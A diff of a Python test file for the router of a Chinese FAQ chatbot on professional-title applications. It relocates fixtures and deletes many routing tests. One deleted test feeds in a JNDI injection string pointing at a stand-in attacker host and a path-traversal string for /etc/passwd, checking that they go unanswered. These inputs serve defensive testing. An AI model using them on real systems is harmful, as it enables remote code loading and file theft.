@@ -1,16 +1,11 @@
 """The router alone: where a message goes, from the ranking, retrieval, text and context."""
 from __future__ import annotations
 
-from dataclasses import replace
-
 import pytest
 
-from bot.router import Candidate, Context, Route, route, topic_of_clauses
-from bot.text import question_part
-
-ENTRUST = Candidate("entrustment_needed", 0.9, "哪些人需要开委托函？", ("五(二)",))
-PAY = Candidate("payment", 0.5, "怎么缴费？", ("三(一)4",))
-DEFENSE = Candidate("defense_required", 0.3, "哪些级别要答辩？", ("三(一)5第2段",))
+from bot.router import route, topic_of_clauses
+from bot.routing.inputs import Candidate, Context, Route
+from tests.routing_cases import DEFENSE, ENTRUST, PAY, PUBLICITY, STEPS, UNIT, WINDOW, replace_score
 
 
 def test_a_plausible_best_is_answered_with_the_runners_up_listed():
@@ -90,34 +85,6 @@ def test_topics_follow_from_the_clause_an_answer_rests_on():
     assert topic_of_clauses(["三(二)"]) == "eligibility"
 
 
-def test_a_long_message_is_classified_on_the_part_that_asks():
-    story = "情况是这样，我前年从外地调来北京，现在在一家民营企业做工程师，社保也转过来了。想问我今年能不能报中级？"
-    assert question_part(story) == "想问我今年能不能报中级"
-    assert question_part("委托函 二级单位") == "委托函 二级单位"
-
-
-def test_a_low_score_clearly_ahead_is_answered_but_a_tie_is_not():
-    ahead = [Candidate("publicity", 0.28, "在哪看公示？", ("三(一)6",)), Candidate("notice", 0.08, "?", ())]
-    assert route("评完了去哪看自己过没过", Context(intent="faq_publicity", unsure=True), ahead).kind == "faq"
-    tie = [Candidate("a", 0.26, "A?", ()), Candidate("b", 0.25, "B?", ())]
-    r = route("我们能自己评吗", Context(intent="faq_a", unsure=True), tie)
-    assert r.kind == "cannot_answer" and len(r.also) == 2
-    oos = Context(intent="faq_publicity", unsure=True, out_of_scope=0.3)
-    assert route("去年通过率多少", oos, ahead).kind == "cannot_answer"
-
-
-@pytest.mark.parametrize("text, date", [("7月23日是星期几", (7, 23)), ("8月30号周几", (8, 30)),
-                                        ("7月2日是周二吗", (7, 2))])
-def test_the_weekday_of_a_date_is_worked_out(text, date):
-    r = route(text, Context(intent="out_of_scope", intent_confidence=0.9), [])
-    assert r.kind == "weekday" and r.date == date
-
-
-def test_a_vague_message_about_titles_gets_a_choice_of_topics_not_a_refusal():
-    assert route("我想问一下评职称的事", Context(intent="nlu_fallback", unsure=True), []).kind == "clarify"
-    assert route("火星上有职称吗？", Context(intent="out_of_scope", intent_confidence=0.9), []).kind == "cannot_answer"
-
-
 # --- misuse, by kind ------------------------------------------------------------------------------
 @pytest.mark.parametrize("text, kind", [
     ("帮我做一张高级工程师证书，要能在网上查到的那种", "fraud"),
@@ -180,20 +147,6 @@ def test_after_a_refusal_a_new_question_or_an_ok_is_not_refused(text):
 
 
 # --- follow-ups -----------------------------------------------------------------------------------
-UNIT = Candidate("unit_review", 0.9, "单位审核推荐什么时候做？", ("三(一)2",), dated=True)
-WINDOW = Candidate("apply_window", 0.8, "什么时候申报？", ("三(一)1",), dated=True)
-PUBLICITY = Candidate("publicity", 0.7, "结果公示多久？", ("三(一)6",))
-
-
-@pytest.mark.parametrize("text, terse", [("那中级呢", True), ("What about 初级?", True), ("在哪交", True),
-                                         ("卫生系列的呢？", True), ("单位审核推荐什么时候开始、要做什么", False),
-                                         ("过了这个时间还能推荐吗", True), ("Who issues it?", True),
-                                         ("OK, so when exactly did it close?", True)])
-def test_follow_ups_are_recognised(text, terse):
-    from bot.router import elliptical
-    assert elliptical(text) is terse
-
-
 def test_a_terse_follow_up_goes_on_about_what_was_just_answered():
     ctx = Context(intent="faq_apply_window", last_faq="unit_review")
     # its own words lean to the application window, the questions before were about the unit's review
@@ -245,23 +198,12 @@ def test_yes_or_no_right_after_a_verdict_answers_what_it_assumed():
     assert route("好的", Context(intent="affirm", topic="entrustment"), []).kind == "ack"
 
 
-def replace_score(c: Candidate, score: float) -> Candidate:
-    from dataclasses import replace
-    return replace(c, score=score)
-
-
 def test_a_follow_up_asking_when_after_an_undated_entry_gets_the_dated_one_on_the_same_clause():
     correction = Candidate("correction", 0.5, "材料被退回补正怎么办？", ("三(一)3",))
     review = Candidate("institution_review", 0.1, "评审服务机构什么时候审核材料？", ("三(一)3",), dated=True)
     r = route("最晚什么时候", Context(intent="faq_apply_window", last_faq="correction"),
               [replace_score(WINDOW, 2.0)], [correction, review])
     assert r.faq_id == "institution_review"
-
-
-def test_a_message_with_two_questions_is_split_into_them():
-    from bot.router import questions_in
-    assert questions_in("个人申报截止是哪天？单位推荐截止又是哪天？") == ["个人申报截止是哪天", "单位推荐截止又是哪天"]
-    assert questions_in("委托函怎么开？") == []  # one question: nothing to split
 
 
 def test_a_question_while_the_interview_asks_the_same_thing_keeps_the_interview():
@@ -275,58 +217,10 @@ def test_a_question_is_never_taken_for_a_yes_or_no_to_an_assumption():
     assert route("需要什么前提", ctx, []).reason != "confirms what the verdict assumed"
 
 
-def test_entries_written_for_the_unit_give_way_for_a_freelancer():
-    unit = Candidate("unit_review", 0.6, "单位审核推荐什么时候做？", ("三(一)2",))
-    theirs = Candidate("freelancer_recommend", 0.4, "自由职业者的推荐材料怎么提交？", ("三(一)2第2段",))
-    assert route("谁给我推荐", Context(intent="faq_unit_review", unsure=True), [unit, theirs]).faq_id == "unit_review"
-    freelancer = Context(intent="faq_unit_review", unsure=True, facts={"employer": "自由职业"})
-    assert route("谁给我推荐", freelancer, [unit, theirs]).faq_id == "freelancer_recommend"
-
-
 def test_a_follow_up_asking_whether_there_is_still_time_gets_the_dates_before_any_advisor():
     r = route("现在还来得及吗", Context(intent="ask_deadline", last_faq="unit_review"),
               [replace_score(WINDOW, 0.3)], [replace_score(UNIT, 0.2)])
     assert (r.kind, r.faq_id) == ("faq", "unit_review")
-
-
-@pytest.mark.parametrize("text, kind", [("我想问一下评职称的事", "clarify"), ("那告诉我评审专家名单", "cannot_answer")])
-def test_only_a_really_vague_message_gets_the_clarifying_question(text, kind):
-    assert route(text, Context(intent="inform"), []).kind == kind
-
-
-# -- "what comes after X": the next step of the procedure (三(一)1 … 三(一)7, in the notice's order) --
-_STEPS = [("三(一)1", [Candidate("apply_window", 1.0, "申报时间？", ("三(一)1",), dated=True),
-                      Candidate("how_to_apply", 1.0, "在哪申报？", ("三(一)1",))]),
-          ("三(一)2", [Candidate("unit_review", 1.0, "单位审核推荐？", ("三(一)2",), dated=True),
-                      Candidate("freelancer_recommend", 1.0, "自由职业者推荐？", ("三(一)2第2段",))]),
-          ("三(一)3", [Candidate("institution_review", 1.0, "机构审核？", ("三(一)3",), dated=True),
-                      Candidate("correction", 1.0, "补正？", ("三(一)3",))]),
-          ("三(一)4", [Candidate("payment", 1.0, "缴费？", ("三(一)4",)),
-                      Candidate("fee_amount", 1.0, "多少钱？", ("三(一)4",))]),
-          ("三(一)5", [Candidate("defense_notice", 1.0, "答辩？", ("三(一)5",), dated=True)]),
-          ("三(一)6", [Candidate("publicity", 1.0, "公示？", ("三(一)6",))]),
-          ("三(一)7", [Candidate("certificate", 1.0, "证书？", ("三(一)7",))])]
-
-
-@pytest.mark.parametrize("text, expected", [
-    ("提交 之后 下一步 是什么", "unit_review"),
-    ("单位推荐完之后呢", "institution_review"),
-    ("材料审核通过了，接下来要干什么", "payment"),
-    ("交完钱以后呢", "defense_notice"),
-    ("答辩完了还要干嘛", "publicity"),
-    ("公示结束了下一步呢", "certificate"),
-])
-def test_what_comes_after_a_step_is_the_next_step(text, expected):
-    r = route(text, Context(intent="faq_unit_review"), [Candidate("unit_review", 2.0, "单位审核推荐？", ("三(一)2",))],
-              steps=_STEPS)
-    assert (r.kind, r.faq_id, r.reason) == ("faq", expected, "the next step")
-
-
-def test_then_what_after_an_answer_is_the_step_after_that_answer():
-    r = route("然后呢", Context(intent="inform", unsure=True, last_faq="payment"), [], steps=_STEPS)
-    assert r.faq_id == "defense_notice"
-    # nothing answered before and no step named: not a next-step question
-    assert route("然后呢", Context(intent="inform", unsure=True), [], steps=_STEPS).reason != "the next step"
 
 
 def test_too_late_for_the_step_just_answered_gets_that_steps_dates():
@@ -339,53 +233,6 @@ def test_too_late_for_the_step_just_answered_gets_that_steps_dates():
     assert route("那答辩错过了时间还能补吗", ctx, [late], followups=[UNIT]).faq_id == "late_apply"
 
 
-def test_what_comes_after_a_notice_received_the_turn_before_is_that_step_itself():
-    # "我收到答辩的短信了" was answered with the defense entry; "接下来要做什么" is the defense, not publicity
-    ctx = Context(intent="inform", unsure=True, last_faq="defense_notice", before="我收到答辩的短信了")
-    assert route("接下来要做什么", ctx, [], steps=_STEPS).faq_id == "defense_notice"
-    done = replace(ctx, before="答辩已经结束了")
-    assert route("接下来要做什么", done, [], steps=_STEPS).faq_id == "publicity"
-
-
-def test_a_freelancer_is_recommended_by_an_association_not_a_unit():
-    r = route("个人申报提交以后下一步是什么", Context(intent="inform", facts={"employer": "自由职业"}), [], steps=_STEPS)
-    assert r.faq_id == "freelancer_recommend"
-
-
-@pytest.mark.parametrize("text", ["审核通过后多久缴费", "缴费以后多久答辩", "证书之后还有什么用"])
-def test_a_question_about_the_later_step_itself_is_not_a_next_step_question(text):
-    r = route(text, Context(intent="faq_payment"), [PAY], steps=_STEPS)
-    assert r.reason != "the next step"
-
-
-def test_a_step_named_after_the_cue_is_what_is_asked_about():
-    assert route("补正之后还要单位再推荐吗", Context(intent="faq_unit_review", last_faq="correction"),
-                 [Candidate("unit_review", 2.0, "单位审核推荐？", ("三(一)2",))], steps=_STEPS).reason != "the next step"
-
-
-def test_a_word_of_the_step_at_hand_stays_within_it():
-    # the unit's own 5-day publicity, not the final 验收公示
-    r = route("公示完了呢", Context(intent="faq_publicity", last_faq="unit_review"), [], steps=_STEPS)
-    assert r.reason != "the next step"
-    assert route("公示完了呢", Context(intent="faq_publicity", last_faq="defense_notice"), [], steps=_STEPS).faq_id == "certificate"
-
-
-def test_an_english_question_is_not_out_of_scope_for_its_english():
-    text = "需要 to attend an in-person 答辩 for an intermediate-level 职称?"  # after the glossary
-    defense = Candidate("defense_required", 0.71, "哪些级别要答辩？", ("三(一)5第2段",))
-    r = route(text, Context(intent="out_of_scope", intent_confidence=0.99, out_of_scope=0.99), [defense])
-    assert (r.kind, r.faq_id) == ("faq", "defense_required")
-    # a Chinese message the classifier is sure is out of scope stays so
-    assert route("今天天气怎么样 答辩", Context(intent="out_of_scope", intent_confidence=0.99, out_of_scope=0.99),
-                 [replace(defense, score=0.5)]).kind == "cannot_answer"
-
-
-def test_the_notice_of_a_step_is_not_the_step_done():
-    r = route("答辩 收到短信了 然后干嘛", Context(intent="faq_defense_notice"), [], steps=_STEPS)
-    assert r.faq_id == "defense_notice"
-    assert route("答辩完了，然后呢", Context(intent="faq_defense_notice"), [], steps=_STEPS).faq_id == "publicity"
-
-
 def test_a_statement_of_facts_is_noted_not_answered_with_an_entry_sharing_a_word():
     story = "我们公司在亦庄，我负责研发测试，领导让我报个初级职称。"
     r = route(story, Context(intent="inform", unsure=True), [replace_score(DEFENSE, 0.41)])
@@ -395,44 +242,17 @@ def test_a_statement_of_facts_is_noted_not_answered_with_an_entry_sharing_a_word
     assert route("我去年进了机关，现在是公务员了。", decided, []).topic == "eligibility"
 
 
-def test_entries_written_for_this_person_lead_for_them():
-    own = Candidate("freelancer_recommend", 0.41, "自由职业者的推荐材料怎么提交？", ("三(一)2第2段",))
-    other = Candidate("correction", 0.45, "材料被退回补正怎么办？", ("三(一)3",))
-    r = route("具体材料怎么交？", Context(intent="faq_correction", unsure=True, facts={"employer": "自由职业"}), [own, other])
-    assert r.faq_id == "freelancer_recommend"
-    assert route("具体材料怎么交？", Context(intent="faq_correction", unsure=True), [own, other]).faq_id == "correction"
-
-
 def test_a_terse_question_after_a_status_reply_is_about_that_stage():
     ctx = Context(intent="faq_civil_servant", unsure=True, last_faq="payment", after_status=True)
     r = route("为啥会这样", ctx, [Candidate("civil_servant", 0.4, "公务员能评吗？", ("一第4段",))], [PAY])
     assert (r.kind, r.faq_id) == ("faq", "payment")
     # what to do next at that stage, too
-    assert route("那我下一步该干啥", ctx, [], [PAY], steps=_STEPS).faq_id == "payment"
-
-
-def test_a_yes_no_question_after_the_cue_is_not_what_comes_next():
-    r = route("改完还得单位再推一遍吗", Context(intent="faq_unit_review", unsure=True, last_faq="correction"),
-              [Candidate("unit_review", 0.5, "单位审核推荐？", ("三(一)2",))], steps=_STEPS)
-    assert r.reason != "the next step"
+    assert route("那我下一步该干啥", ctx, [], [PAY], steps=STEPS).faq_id == "payment"
 
 
 @pytest.mark.parametrize("text", ["我能不能花钱买一个中级职称证书？", "能不能在系统里把入职时间往前改一改？反正审核的人也看不出来吧"])
 def test_buying_a_title_or_changing_dates_is_refused(text):
     assert route(text, Context(intent="faq_integrity"), []).kind == "refuse"
-
-
-def test_an_entry_for_others_does_not_lead_on_the_classifiers_certainty():
-    unit = Candidate("unit_review", 2.0, "单位审核推荐？", ("三(一)2",))
-    own = Candidate("freelancer_recommend", 0.4, "自由职业者推荐？", ("三(一)2第2段",))
-    r = route("没有单位，那这一步我怎么办？", Context(intent="faq_unit_review", facts={"employer": "自由职业"}), [unit, own])
-    assert r.faq_id == "freelancer_recommend"
-
-
-def test_two_questions_typed_without_question_marks_are_two():
-    from bot.router import questions_in
-    assert questions_in("个人申报几号截止 单位审核又是几号截止") == ["个人申报几号截止", "单位审核又是几号截止"]
-    assert questions_in("委托函 二级") == [] and questions_in("初级要答辩吗 中级呢") == []
 
 
 def test_a_worry_about_the_checks_is_not_a_plan_to_escape_them():
@@ -441,19 +261,7 @@ def test_a_worry_about_the_checks_is_not_a_plan_to_escape_them():
     assert route("这样改一下查不出来吧", Context(intent="faq_integrity"), [PAY]).kind == "refuse"
 
 
-def test_a_question_pointing_back_with_a_pronoun_is_a_follow_up():
-    from bot.router import elliptical
-    assert elliptical("要交哪些材料给他们") and elliptical("刚才说的那个表在哪下载")
-    assert not elliptical("我同事去年评上了高级，他的论文是抄的，会怎么处理")
-
-
 @pytest.mark.parametrize("text, intent", [("公示完了呢", "affirm"), ("上传时间", "stop")])
 def test_a_message_asking_about_something_is_no_acknowledgement(text, intent):
     assert route(text, Context(intent=intent), [PUBLICITY]).kind != "ack"
     assert route("好的", Context(intent=intent), []).kind == "ack"
-
-
-@pytest.mark.parametrize("text", ["${jndi:ldap://evil.example.com/a}", "../../../../etc/passwd"])
-def test_code_with_no_words_around_it_is_not_answered(text):
-    r = route(text, Context(intent="faq_how_to_apply", intent_confidence=0.9), [PAY])
-    assert (r.kind, r.reason) == ("cannot_answer", "code, no question")
